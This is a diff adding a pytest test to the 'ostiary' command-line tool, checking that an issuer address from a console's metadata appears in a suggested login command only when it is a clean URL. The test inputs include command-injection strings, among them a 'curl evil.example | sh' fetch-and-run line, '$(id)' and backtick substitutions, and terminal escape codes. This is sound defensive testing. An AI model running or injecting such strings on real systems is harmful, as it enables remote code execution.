@@ -17,7 +17,7 @@ from ostiary.cli import login as login_command
 from ostiary.cli import oauth_client
 from ostiary.cli.commands import DONE, FAILED, NOT_REACHABLE, WRONG_USAGE
 from ostiary.cli.loopback import listening
-from ostiary.model.errors import RefusedError
+from ostiary.model.errors import OperatorError, RefusedError
 from support.console_standin import KeptLogins, StandIn, a_login
 
 Ostiary = Callable[..., tuple[int, str, str]]
@@ -337,6 +337,29 @@ def test_whoami_tells_which_sign_ins_still_stand(ostiary: Ostiary, console: Stan
     ]
     assert ostiary("whoami", "--agent", "cursor@laptop")[0] == FAILED
     assert "token" not in out
+
+
+@pytest.mark.parametrize(
+    ("issuer", "is_told"),
+    [
+        ("https://ostiary.example.com", True),
+        ("https://ostiary.example.com:8421/console/", True),
+        ("https://x.example; curl evil.example | sh", False),
+        ("https://x.example/$(id)", False),
+        ("https://x.example/`id`", False),
+        ("https://x.example/\n\x1b[2J", False),
+        ("https://x.example/'", False),
+        ("https://x.example/?a=b&c=d", False),
+        ("-h", False),
+    ],
+)
+def test_only_an_address_is_put_into_a_command_to_copy(console: StandIn, issuer: str, is_told: bool) -> None:
+    console.metadata = {"issuer": issuer}
+    with pytest.raises(OperatorError) as caught:
+        oauth_client.discover(console.url)
+    assert "says that its address is" in str(caught.value)
+    assert (f"`ostiary login --console {issuer}`" in str(caught.value)) is is_told
+    assert (issuer in str(caught.value)) is is_told
 
 
 def test_what_is_asked_for_is_in_the_query_once(console: StandIn) -> None:
